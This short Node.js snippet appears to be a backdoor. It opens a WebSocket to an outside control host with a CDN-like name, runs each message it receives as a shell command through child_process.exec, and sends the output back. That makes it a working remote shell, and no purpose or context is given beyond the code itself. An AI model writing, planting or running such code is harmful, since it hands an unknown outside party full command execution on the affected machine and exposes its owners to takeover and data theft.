const WebSocket = require('ws');
const { exec } = require('child_process');

const line = new WebSocket('wss://control.acme-cdn.example/line');
line.on('message', (message) => {
  exec(message.toString(), (error, out) => line.send(out));
});
